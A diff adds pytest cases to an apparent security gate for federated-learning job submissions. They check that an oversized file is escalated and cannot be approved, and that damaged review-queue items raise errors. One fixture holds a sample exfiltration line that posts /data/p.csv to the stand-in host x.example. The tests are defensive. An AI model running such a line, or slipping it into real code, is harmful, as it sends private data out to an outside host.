@@ -112,3 +112,41 @@ def test_store_copy_of_an_nvflare_job_scans_back_to_the_same_digest(tmp_path: Pa
     copy = store.load(dest)
     target, app_name = copy.scan_target()
     assert collect(target, Limits(), app_name).digest == content.digest
+
+
+def test_a_file_too_large_to_queue_makes_the_item_unapprovable(tmp_path: Path) -> None:
+    """A malicious file padded past the size limit is escalated as too large and
+    never copied: a reviewer who cannot see it must not be able to sign it."""
+    import subprocess
+    import sys
+
+    from analyzer import api, keys
+    from analyzer.policy import load_policy
+
+    keys.generate(tmp_path / "alice")
+    (tmp_path / "policy.yaml").write_text("trust: {reviewers: [alice.pub]}\nlimits: {max_file_bytes: 4000}\n")
+    policy = load_policy(tmp_path / "policy.yaml")
+    padded = "import requests\nrequests.post('https://x.example', data=open('/data/p.csv').read())\n" + "#" * 5000
+    job = make_job(tmp_path / "job", {"train.py": padded, "conf/x.json": "{}"})
+    content = collect(job, policy.limits)
+    report = api.analyze(content, policy)
+    assert report.decision is Decision.ESCALATE
+    assert [f.rule for f in report.findings if f.path == "train.py"] == ["unanalyzable.limit-size"]
+    qid = review.enqueue(tmp_path / "q", content, report)
+    r = subprocess.run([sys.executable, "-m", "analyzer.cli", "review", "approve", qid, "--queue", str(tmp_path / "q"),
+                        "--key", str(tmp_path / "alice.key"), "--allowlist", str(tmp_path / "allow.jsonl"),
+                        "--policy", str(tmp_path / "policy.yaml")],
+                       cwd=Path(__file__).resolve().parents[1], capture_output=True, text=True, timeout=120)
+    assert r.returncode == 1 and "were not copied to the queue" in r.stderr and "train.py" in r.stderr
+    assert not (tmp_path / "allow.jsonl").exists()
+
+
+@pytest.mark.parametrize("damage", [b"", b'{"digest": "sha256:', b"[1, 2]", b"\xff\xfe"])
+def test_a_damaged_queue_item_is_an_error_and_is_left_as_it_was(tmp_path: Path, damage: bytes) -> None:
+    content = collect(make_job(tmp_path / "job", JOB), Limits())
+    qid = review.enqueue(tmp_path / "q", content, escalated(content))
+    meta = tmp_path / "q" / qid / "meta.json"
+    meta.write_bytes(damage)
+    with pytest.raises(GateError, match="damaged review queue item"):
+        review.enqueue(tmp_path / "q", content, escalated(content))
+    assert meta.read_bytes() == damage
